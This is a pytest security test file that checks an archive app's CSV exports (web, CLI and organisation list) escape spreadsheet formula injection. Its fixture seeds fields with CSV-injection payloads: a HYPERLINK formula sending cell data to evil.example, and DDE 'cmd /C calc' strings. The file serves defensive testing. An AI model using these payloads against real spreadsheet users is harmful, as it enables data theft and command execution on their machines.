"""Issue 15 item 14: no CSV export writes a cell a spreadsheet would run as a formula
(OWASP CSV injection): text starting with = + - @ tab or CR is prefixed with a quote."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from click.testing import CliRunner

from app.cli.main import main
from app.models import Unit
from app.services import audit, org
from app.services.csv_cells import safe_cell
from tests.factories import make_document
from tests.security.access_world import build, close

SUBJECT, SENDER, NOMOR = '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1"
EVIL_OBJECT = "-2+3+cmd|' /C calc'!A0"     # usernames cannot start so; any text cell is checked


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    built = build(tmp_path_factory.mktemp("csv"), "embedded")
    with built.runtime.session_scope() as s:
        doc = make_document(s, ["Surat formula"], nomor=NOMOR, perihal=SUBJECT, sender=SENDER,
                            tanggal_surat=date(2020, 1, 1), unit_id=built.units["sekretariat"])
        built.docs["formula"] = doc.id
        audit.record(s, audit.Action.VIEWED, document_id=doc.id, object_type=EVIL_OBJECT, page="\t=1+1")
        s.add(Unit(code="EVIL", name="=cmd|'/C calc'!A0"))
    yield built
    close(built)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _assert_neutral(cells: list[str], *expected: str) -> None:
    for value in expected:
        assert "'" + value in cells, (value, cells)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous


def test_safe_cell_follows_owasp():
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@A", "\t=1", "\r=1", "Surat", "", 5, -3)] == \
        ["'=1+1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1", "Surat", "", 5, -3]


def test_retention_list_export(world):
    response = world.client("records").get("/retensi/due/unclassified?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    _assert_neutral(_cells(response.get_data(as_text=True)), SUBJECT, SENDER, NOMOR)


def test_audit_export_web_and_cli(world, tmp_path, monkeypatch):
    response = world.client("records").get(f"/retensi/audit?document={world.docs['formula']}&format=csv")
    _assert_neutral(_cells(response.get_data(as_text=True)), EVIL_OBJECT)
    monkeypatch.setenv("LONTAR_DATA_DIR", str(world.runtime.settings.data_dir))
    monkeypatch.setenv("LONTAR_SECRET_KEY", "test-secret")
    monkeypatch.delenv("SEARCH_URL", raising=False)
    monkeypatch.delenv("DATABASE_URL", raising=False)
    out = tmp_path / "audit.csv"
    result = CliRunner().invoke(main, ["audit", "export", "--document", str(world.docs["formula"]), "-o", str(out)],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    _assert_neutral(_cells(out.read_text(encoding="utf-8")), EVIL_OBJECT)


def test_org_export(world):
    with world.runtime.session_scope() as s:
        _assert_neutral(_cells(org.export_csv(s)), "=cmd|'/C calc'!A0")
        assert s.query(Unit).filter_by(code="EVIL").one().name.startswith("=")   # stored as typed
